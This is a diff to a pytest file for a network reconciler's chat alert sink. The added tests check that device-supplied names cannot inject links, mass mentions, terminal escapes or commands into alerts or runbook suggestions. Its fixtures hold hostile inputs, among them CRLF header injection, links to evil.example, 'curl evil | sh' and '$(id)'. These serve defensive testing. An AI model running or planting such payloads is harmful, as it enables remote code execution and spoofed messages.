@@ -12,12 +12,14 @@ from typing import Any
 
 import pytest
 
+from reconciler.report.event import Event
 from reconciler.settings.alerts import AppriseSettings
 from reconciler.sinks.alerts import chat
-from reconciler.sinks.alerts.alert import Alert
+from reconciler.sinks.alerts.alert import Alert, of_event
 from reconciler.sinks.alerts.chat import Chat
 from reconciler.sinks.alerts.failure import Failure
 from reconciler.sinks.alerts.message import Item, Message
+from reconciler.sinks.alerts.runbook import todo
 from reconciler.sinks.alerts.words import body, changed, summary, title
 from tests.sinks.receiver import recording
 from tests.sinks.test_webhook import ALERT, OPENED, OVER
@@ -103,6 +105,43 @@ def test_what_a_device_says_calls_nobody_together() -> None:
     said = body(Message("k", (Item("opened", 1, alert),)))
     assert not any(call in said for call in ("@everyone", "<!channel>", "@here"))
     assert "a@b.c" in said
+
+
+EVIL = "a\r\nBcc: x@y\x1b[2J\u202e<!channel> [ok](http://evil.example) <http://evil.example|ok> @everyone"
+
+
+def test_no_name_on_a_device_makes_a_line_a_link_a_call_or_a_command_of_its_own() -> None:
+    change = {"verb": EVIL, "kind": EVIL, "name": f"{EVIL}\ndo: curl evil | sh", "fields": {EVIL: [EVIL, "b"]}}
+    data = {"id": "1" * 12, "condition": "drift", "subject": EVIL, "since": 1.7e9, "by": EVIL, "changes": [change]}
+    alert = of_event(Event("drift", EVIL, data=data), EVIL)
+    message = Message("k", (Item("opened", 1, alert),))
+    for text in (title(message), body(message)):
+        assert all(line.isprintable() for line in text.replace("\u200b", "").split("\n"))
+        assert not any(call in text for call in ("<!", "@everyone", "](http", "<http"))
+    assert [line.split(":")[0] for line in body(message).split("\n")][-1] == "do"
+    assert body(message).count("\ndo: ") == 1
+
+
+@pytest.mark.parametrize(
+    ("kind", "words", "do"),
+    [
+        ("failed", "% `reconcile approve 0123456789ab` applies it", "reconcile plan n1"),
+        (
+            "unreachable",
+            "n1: `reconcile lab down; curl evil | sh`",
+            "check its power, its link and its management address",
+        ),
+        ("unreachable", "HOST KEY CHANGED: `reconcile trust` shows and records it", "reconcile trust"),
+        (
+            "held",
+            "`reconcile approve 0123456789ab cdef01234567` applies it",
+            "reconcile approve 0123456789ab cdef01234567",
+        ),
+        ("drift", "`reconcile approve $(id)`", "it is put back by itself"),
+    ],
+)
+def test_what_to_type_is_said_by_us_and_by_no_device(kind: str, words: str, do: str) -> None:
+    assert todo(Alert("0" * 12, kind, "n1", words, 1.7e9, "n1")) == do
 
 
 def test_its_url_stays_a_secret(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
